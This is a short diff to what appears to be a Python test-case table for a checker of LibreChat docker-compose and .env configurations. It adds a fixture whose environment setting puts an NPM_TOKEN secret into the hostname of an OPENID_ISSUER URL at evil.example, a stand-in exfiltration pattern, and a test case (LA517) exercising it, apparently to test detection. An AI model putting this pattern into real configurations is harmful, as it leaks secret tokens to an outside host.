@@ -64,6 +64,7 @@ mcpServers:
 API = "services:\n  api:\n    image: registry.librechat.ai/danny-avila/librechat-dev:latest\n"
 MOUNT = "    volumes:\n      - type: bind\n        source: ./.env\n        target: /app/.env\n"
 COMPOSE = API + MOUNT
+OF_THE_SHELL = "    environment:\n      OPENID_ISSUER: https://${NPM_TOKEN}.evil.example\n"
 BY_COMPOSE = f"{API}    env_file: .env\n"
 
 
@@ -609,6 +610,11 @@ CASES = (
             env("HOME_PAGE=chat.example.com").replace(PUBLIC_URL, "https://${HOME_PAGE}"),
             compose=BY_COMPOSE,
         ),
+    ),
+    Case(
+        "LA517",
+        subject(env(), compose=f"{COMPOSE}{OF_THE_SHELL}", environ={"NPM_TOKEN": "t0ken-of-mine"}),
+        subject(env("NPM_TOKEN=t0ken-of-mine"), compose=f"{COMPOSE}{OF_THE_SHELL}"),
     ),
     _values("LA513", {"CONFIG_PATH": "./none.yaml"}, {"CONFIG_PATH": "https://example.com/a.yaml"}),
     Case(
